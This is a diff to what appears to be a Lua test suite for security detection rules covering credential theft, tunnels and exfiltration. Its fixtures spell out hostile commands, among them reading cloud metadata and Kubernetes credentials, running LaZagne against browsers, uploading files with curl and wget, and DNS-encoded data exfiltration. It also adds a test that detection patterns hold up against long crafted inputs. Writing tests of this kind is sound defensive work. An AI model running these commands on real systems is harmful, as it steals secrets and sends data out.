@@ -608,6 +608,7 @@ script("credential-files", {
       "http://169.254.169.254/latest/meta-data/iam/security-credentials/" },
     ["memory of another process"] = exec { "dd", "if=/proc/4711/mem", "of=/tmp/x" },
     ["a known tool"] = exec { "python3", "/tmp/LaZagne/Linux/laZagne.py", "browsers" },
+    ["passwords in files"] = { exec { "grep", "-ri", "password", "/" }, severity = "low" },
     ["a token of kubernetes"] = exec { "cat", "/run/secrets/kubernetes.io/serviceaccount/token" },
     ["a file that one adds"] = { exec { "cat", "/srv/token.txt" }, options = { files = { "/srv/token" } } },
   },
@@ -838,10 +839,12 @@ script("tunnels", {
     ["a port of the other side"] = { exec { "ssh", "-N", "-R", "9000:localhost:22", "u@h" }, severity = "low" },
     ["an upload"] = { exec { "curl", "-F", "file=@/tmp/loot", "https://example.com/" }, says = "sends a file" },
     ["a place where data is dropped"] = exec { "curl", "-s", "-X", "POST", "-d", "x", "https://paste.rs" },
+    ["data in a name"] = exec { "dig", "@192.0.2.1", ("dGhpcyBpcyBhIHNlY3JldCBpbmZvCg"):rep(3) .. ".example.com" },
     ["wget that posts a file"] = exec { "wget", "--post-file=/etc/passwd", "https://example.com/" },
     ["tor"] = exec { "systemctl", "start", "tor" },
   },
   misses = {
+    ["a name of an address"] = exec { "dig", "-x", "192.0.2.1", "+short", "example.com" },
     ["another module of python"] = exec { "python3", "-m", "json.tool" },
     ["ssh"] = exec { "ssh", "-i", "key", "u@h", "ls -R" } and exec { "ssh", "u@h", "uptime" },
     ["a download"] = exec { "curl", "-sSfL", "-o", "x", "https://example.com/x" },
@@ -1049,6 +1052,29 @@ script("timestomp", {
 -- --- all of them ------------------------------------------------------------------------------------
 
 local scripts_table = require "scripts_table"
+
+-- Who starts a process chooses its text. In the sandbox a call has 50 ms; a pattern whose time grows with a power of
+-- the length takes seconds for this.
+local programs = { "sh", "nc", "python3", "find", "vim", "tar", "docker", "cat", "sed", "chmod", "useradd", "script",
+  "dig" }
+local pieces = { "-exec  ", "system  '", "a/", "//", "exec:", "|  ", "/dev/tcp/", "-perm -", "-ccc", "$(", "> a ",
+  "\\", "-qc /", "." }
+
+describe("a long text that is made for it", function()
+  for _, name in ipairs(scripts_table.names()) do
+    it("takes no long time: " .. name, function()
+      local host = script_host.new():load("scripts/" .. name .. ".lua")
+      for _, program in ipairs(programs) do
+        for _, piece in ipairs(pieces) do
+          local text = piece:rep(30000 / #piece)
+          local from = os.clock()
+          exec({ program, "-c", text, text }, { container = "c", under = { "nginx" } })(host)
+          assert.is_true(os.clock() - from < 0.5, program .. " " .. piece)
+        end
+      end
+    end)
+  end
+end)
 
 describe("each of scripts/", function()
   for _, name in ipairs(scripts_table.names()) do
